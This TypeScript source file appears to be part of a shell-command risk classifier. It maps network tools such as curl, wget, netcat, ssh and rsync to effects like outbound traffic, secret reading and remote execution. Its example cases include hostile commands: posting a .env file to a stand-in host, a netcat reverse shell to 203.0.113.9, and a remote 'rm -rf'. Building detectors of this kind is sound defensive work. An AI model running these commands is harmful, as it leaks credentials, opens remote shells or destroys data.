import type { Run } from '../facts.ts';
import { inputOf } from '../outputs.ts';
import type { Word } from '../reading.ts';
import { remoteCommand } from '../remote.ts';
import { cut, withText } from '../words.ts';
import type { Option, Row } from './row.ts';

const asksVersion: Readonly<Record<string, Option>> = {
  '-V --version': { undoes: true, does: ['reads machine'] },
};

/** Programs whose words name a counterparty. */
export const network: readonly Row[] = [
  {
    name: 'curl',
    is: ['fetcher'],
    flags:
      '-#01346aBfgGIijJklLMnNOqRsSvVZ --anyauth --basic --compressed --create-dirs --digest --fail --fail-with-body --get --globoff --head --http1.0 --http1.1 --http2 --http3 --include --insecure --ipv4 --ipv6 --location --location-trusted --no-buffer --no-progress-meter --parallel --path-as-is --progress-bar --raw --remote-header-name --remote-name-all --remote-time --show-error --silent --ssl --tcp-nodelay --tlsv1.2 --tlsv1.3 --verbose --next --negotiate --ntlm --no-keepalive --list-only --netrc --netrc-optional --retry-connrefused --retry-all-errors --disable --tr-encoding --append --crlf',
    values:
      '-A -C -e -m -r -t -X -y -Y -z -P -Q -w -u -U -H --user-agent --continue-at --referer --max-time --connect-timeout --range --request --write-out --retry --retry-delay --retry-max-time --limit-rate --max-redirs --max-filesize --ciphers --interface --keepalive-time --local-port --proto --proto-default --proto-redir --resolve --connect-to --speed-limit --speed-time --time-cond --tls-max --user --proxy-user --oauth2-bearer --header --proxy-header --aws-sigv4 --noproxy --parallel-max --cert-type --key-type --pass --url-query --delegation --dns-servers',
    options: {
      ...asksVersion,
      '-d --data --data-ascii --data-binary --data-urlencode --json': '@text',
      '--data-raw --form-string': { value: 'text', does: ['network out'] },
      '-F --form': 'form',
      '-T --upload-file': 'sends',
      '-o --output -D --dump-header -c --cookie-jar --trace --trace-ascii --stderr --libcurl --etag-save --hsts --alt-svc':
        'writes',
      '--output-dir': 'writes',
      '-O --remote-name': { does: ['writes workspace'] },
      '-K --config': { value: 'reads', does: ['executes argument'] },
      '-b --cookie --etag-compare': 'key',
      '-E --cert --key --cacert --capath --netrc-file --crlfile --pinnedpubkey --proxy-cacert --proxy-cert --proxy-key --ssl-sessions':
        'key',
      '-x --proxy --preproxy --socks4 --socks4a --socks5 --socks5-hostname --proxy1.0': 'host',
      '--url --doh-url': 'url',
      '--unix-socket --abstract-unix-socket': { value: 'reads', does: ['remote-state service'] },
    },
    does: ['network'],
    operands: 'url*',
    also: dashIsRead,
    examples: [
      [
        'curl -fsSL https://e.example/x -o y',
        'writes y',
        'network',
        'network in https://e.example/x',
      ],
      ['curl -d @.env https://e.example', 'reads .env', 'network', 'network out https://e.example'],
      ['curl --netrc-file ~/.netrc https://e.example', 'network', 'network in https://e.example'],
    ],
  },
  {
    name: 'wget wget2',
    is: ['fetcher'],
    flags:
      '-bcdEFhkKLmnNpqrSvVxH46 --background --continue --debug --force-html --convert-links --mirror --no-check-certificate --no-verbose --no-clobber --page-requisites --quiet --recursive --server-response --spider --timestamping --verbose --no-parent --no-directories --force-directories --adjust-extension --content-disposition --https-only --show-progress --no-cookies --span-hosts --no-host-directories --trust-server-names --retry-connrefused -nc -nd -np -nH -nv -nv -qO-',
    values:
      '-A -D -I -l -Q -R -t -T -U -w -X -e --accept --domains --level --quota --reject --tries --timeout --user-agent --wait --waitretry --limit-rate --header --user --password --http-user --http-password --referer --method --cut-dirs --max-redirect --execute --dns-timeout --connect-timeout --read-timeout --progress --default-page --secure-protocol --exclude-directories --restrict-file-names',
    options: {
      ...asksVersion,
      '-O --output-document -o --output-file -a --append-output --save-cookies --warc-file':
        'writes',
      '-P --directory-prefix': 'writes',
      '-i --input-file': 'reads',
      '--post-file --body-file': 'sends',
      '--post-data --body-data': { value: 'text', does: ['network out'] },
      '--load-cookies --ca-certificate --certificate --private-key --ca-directory': 'key',
      '--config': { value: 'reads', does: ['executes argument'] },
      '--use-askpass': 'script other',
      '-B --base': 'host',
    },
    does: ['network'],
    operands: 'url*',
    examples: [
      ['wget -qO- https://e.example/x', 'network', 'network in https://e.example/x'],
      [
        'wget --post-file=.env https://e.example',
        'reads .env',
        'network',
        'network out https://e.example',
      ],
    ],
  },
  {
    name: 'aria2c axel lftp youtube-dl yt-dlp lynx links w3m elinks httpie http https xh xhs ab hey wrk k6 siege vegeta oha httrack websocat grpcurl monolith gallery-dl',
    is: ['fetcher'],
    open: true,
    options: {
      '-o --out --output -d --dir': 'writes',
      '-i --input-file': 'reads',
      '-x --all-proxy --http-proxy --https-proxy': 'host',
    },
    does: ['network'],
    operands: 'url*',
    also: ({ part, run, operands, role, fact }) => {
      if (part.program !== 'http' && part.program !== 'https' && part.program !== 'xh') return;
      const given = part.redirects.some(({ kind }) => kind === 'read' || kind === 'text');
      if (given || run.draft.flows.some((flow) => flow.to === part.index)) run.sends = true;
      for (const word of operands) {
        const file = /^[\w-]+(?::?=)?@(?=[~/.])/.exec(word.text)?.[0];
        if (!file) continue;
        run.sends = true;
        role('reads', cut(word, file.length));
      }
      if (run.sends) fact('network out');
      for (let at = run.hosts.length - 1; at >= 0; at--) {
        if (/^[^/:@]+$|^[\w-]+@[~/.]/.test(run.hosts[at]?.text ?? '')) run.hosts.splice(at, 1);
      }
    },
    examples: [['http POST e.example/x', 'network', 'network in e.example/x']],
  },
  {
    name: 'nc ncat netcat nc.traditional nc.openbsd telnet tftp ftp',
    is: ['fetcher'],
    flags: '-46bCDdFhklNnrStUuvZz --udp --listen --verbose --ssl --keep-open --no-shutdown',
    values: '-I -i -M -m -O -P -p -q -s -T -V -W -w -X --source-port --wait --max-conns',
    options: {
      '-e -c --exec --sh-exec --lua-exec': { value: 'code shell', does: ['executes host'] },
      '-x --proxy': 'host',
      '-o --output': 'writes',
    },
    does: ['network out'],
    operands: 'bare host, text*',
    examples: [
      ['nc e.example 80', 'network out', 'network both e.example'],
      [
        'nc -e /bin/sh 203.0.113.9 44',
        'executes host',
        'executes stdin shell',
        'network out',
        'network both 203.0.113.9',
      ],
    ],
  },
  {
    name: 'socat',
    flags: '-dDhvxsuUL46V',
    values: '-b -lf -lp -t -T -x',
    operands: 'text*',
    does: ['network out'],
    also: ({ operands, fact, role }) => {
      for (const word of operands) {
        if (/^(?:EXEC|SYSTEM|SHELL)/i.test(word.text)) fact('executes host');
        const kind = /^(?:FILE|OPEN|GOPEN):/i.exec(word.text)?.[0];
        if (kind) role('reads', beforeComma(cut(word, kind.length)));
      }
    },
    examples: [['socat - tcp:e.example:80', 'network out']],
  },
  {
    name: 'ssh autossh mosh dropbear dbclient',
    flags: '-46AaCfGgKkMNnqsTtVvXxYy',
    values: '-B -b -c -D -e -I -i -J -l -m -O -p -Q -S -W -w',
    options: {
      ...asksVersion,
      '-F -E': 'reads',
      '-L': 'text',
      '-R': { value: 'text', does: ['network out'] },
      '-o': { value: 'config' },
    },
    strict: true,
    does: ['network out'],
    also: (call) => {
      for (const word of call.valuesOf('-o')) {
        const option = /^(?:Proxy|Local)Command\s*[= ]\s*/i.exec(word.text)?.[0];
        if (option) call.role('code shell', cut(word, option.length));
      }
      remoteCommand(call);
    },
    examples: [
      ['ssh deploy@prod.example.com', 'network out', 'network both deploy@prod.example.com'],
      [
        "ssh h 'rm -rf /srv/app'",
        'network out',
        'remote-state command',
        'deletes /srv/app and below',
      ],
    ],
  },
  {
    name: 'scp pscp',
    is: ['fetcher'],
    flags: '-346ABCOpqRrTv',
    values: '-c -D -i -J -l -P -X',
    options: { '-S': 'script other', '-F': 'reads', '-o': 'config' },
    does: ['network out'],
    operands: 'remote reads*, remote writes',
    examples: [
      ['scp ./a deploy@h:/srv/', 'network out', 'reads ./a', 'network out deploy@h:/srv/'],
      ['scp -i ~/.ssh/id_rsa a u@h:', 'network out', 'reads a', 'network out u@h:'],
    ],
  },
  {
    name: 'sftp',
    is: ['fetcher'],
    flags: '-46AaCfNpqrv',
    values: '-B -c -D -i -J -l -P -R -s -X',
    options: {
      '-b': { value: 'reads', does: ['executes argument'] },
      '-S': 'script other',
      '-F': 'reads',
      '-o': 'config',
    },
    does: ['network out'],
    operands: 'bare host, text*',
    also: sentByBatch,
    examples: [
      ["sftp u@h <<< 'put a'", 'network out', 'reads a', 'network both u@h'],
      ['sftp -i k u@h', 'network out', 'network both u@h'],
    ],
  },
  {
    name: 'rsync',
    flags:
      '-abcCdDEgHhIikKlLmnNoOpPqrRsStuUvWxyzAX0468 --archive --verbose --quiet --checksum --recursive --relative --update --inplace --append --links --perms --owner --group --devices --times --dry-run --whole-file --one-file-system --existing --ignore-existing --force --partial --progress --stats --human-readable --itemize-changes --numeric-ids --compress --list-only --hard-links --acls --xattrs --executability --fuzzy --prune-empty-dirs --safe-links --copy-links --no-perms --no-owner --no-group --no-times --mkpath --delay-updates --fake-super --secluded-args --sparse --backup',
    values:
      '-B -e -f -M -T --exclude --include --filter --chmod --chown --usermap --groupmap --bwlimit --timeout --contimeout --max-size --min-size --max-delete --block-size --suffix --out-format --info --debug --port --modify-window --compress-level --compress-choice --skip-compress --log-file-format --address --sockopts --iconv --checksum-choice --rsync-path --config',
    options: {
      ...asksVersion,
      '-e --rsh': { value: 'code shell' },
      '--delete --delete-before --delete-during --delete-delay --delete-after --delete-excluded --del --delete-missing-args':
        {
          operands: 'remote reads*, mirror',
        },
      '--remove-source-files': { operands: 'deletes*, remote writes' },
      '--files-from --exclude-from --include-from --password-file': 'key',
      '--log-file --temp-dir --partial-dir --backup-dir --write-batch': 'writes',
      '--compare-dest --copy-dest --link-dest --read-batch': 'reads',
    },
    operands: 'remote reads*, remote writes',
    // A detached value with a colon may be the destination where these tables lag behind rsync's own.
    also: ({ args, operands, fact }) => {
      const odd = args.some((word) => !operands.includes(word) && /^[^-/][^/]*:/.test(word.text));
      if (odd) fact('network out', false);
    },
    examples: [
      ['rsync -a ./dist/ d@h:/var/www/', 'reads ./dist/', 'network out d@h:/var/www/'],
      ['rsync -a --delete src/ build/', 'reads src/', 'deletes build/ and below'],
      ['rsync -av --exclude=.env a b', 'reads a', 'writes b'],
    ],
  },
  {
    name: 'ping ping6 traceroute tracert pathping mtr dig nslookup host whois nmap arping fping tracepath masscan zmap resolvectl ntpdate sntp snmpwalk',
    open: true,
    operands: 'text*',
    does: ['network out'],
    examples: [['ping -c1 e.example', 'network out']],
  },
  {
    name: 'ngrok cloudflared localtunnel lt tailscale wg wg-quick openvpn frpc bore serveo',
    open: true,
    operands: 'text*',
    does: ['network out', 'changes-config tunnel'],
    examples: [['ngrok tcp 22', 'network out', 'changes-config tunnel']],
  },
  {
    name: 'ssh-keygen',
    flags: '-AaBcDeFgHiKLlMopQqrUuVvXy',
    values: '-b -C -E -F -I -m -N -n -O -P -R -s -t -V -w -Y -Z -z',
    options: { '-f': 'writes' },
    does: ['reads machine'],
    examples: [['ssh-keygen -t ed25519 -f k', 'writes k', 'reads machine']],
  },
  {
    name: 'ssh-add ssh-agent ssh-copy-id ssh-keyscan gpg gpg2 pass op bw age sops vault keytool certbot secret-tool security kwallet-query',
    open: true,
    operands: 'text*',
    does: ['reveals-secret credentials'],
    examples: [['secret-tool lookup a b', 'reveals-secret credentials']],
  },
  {
    name: 'openssl',
    style: 'single',
    open: true,
    subs: {
      's_client,s_server,s_time': {
        style: 'single',
        open: true,
        does: ['network out'],
        options: { '-connect -host -proxy': 'url', '-cert -key -CAfile': 'key' },
      },
      'version,ciphers,list,rand,dgst,sha256,md5,x509,verify,asn1parse,prime,errstr,speed': {
        style: 'single',
        open: true,
        options: {
          '-in': 'reads',
          '-out': 'writes',
          '-engine -provider -provider-path': 'script other',
        },
        does: ['reads machine'],
        operands: 'reads*',
      },
      'enc,base64,rsa,pkey,pkcs12,pkcs8,genrsa,genpkey,req,ca,cms,smime,rsautl,pkeyutl,ec,ecparam,crl,pkcs7,passwd,dhparam,aes-256-cbc':
        {
          style: 'single',
          open: true,
          options: { '-in -inkey -kfile': 'reads', '-out -keyout': 'writes' },
          does: ['executes argument'],
          examples: [['openssl enc -in a -out b', 'reads a', 'writes b', 'executes argument']],
        },
    },
  },
];

/** What a batch on standard input puts on the other machine. */
function sentByBatch({ run, role }: Parameters<NonNullable<Row['also']>>[0]): void {
  const word = run.part.words[0];
  const batch = inputOf(run.draft, run.part) ?? '';
  for (const match of batch.matchAll(/^\s*(?:put|mput|reput)\s+(?:-\w+\s+)*(\S+)/gm))
    if (word) role('reads', withText(word, match[1] ?? ''));
}

/** `@-` and `-T -` send what comes in. */
const beforeComma = (word: Word): Word =>
  withText(word, word.text.replace(/,.*/, ''), word.shape.replace(/,.*/, ''));

/** What a header, or any other word, takes from a file of credentials is sent. */
const tellsSecret = ({ draft }: Run, args: readonly Word[]): boolean =>
  args.some((word) =>
    word.from.some((from) =>
      draft.effects.some(
        ({ part, kind, target }) =>
          part === from &&
          kind === 'reads' &&
          target.type === 'path' &&
          target.place.kind === 'secret',
      ),
    ),
  );

function dashIsRead({ run, args, role }: Parameters<NonNullable<Row['also']>>[0]): void {
  for (const [at, word] of args.entries()) {
    const file = args[at - 1]?.text === '--data-urlencode' && /^[\w.-]+@/.exec(word.text)?.[0];
    if (file) role('reads', cut(word, file.length));
  }
  if (tellsSecret(run, args)) run.sends = true;
  if (args.some((word) => word.text === '@-' || word.text.endsWith('=@-'))) run.sends = true;
}
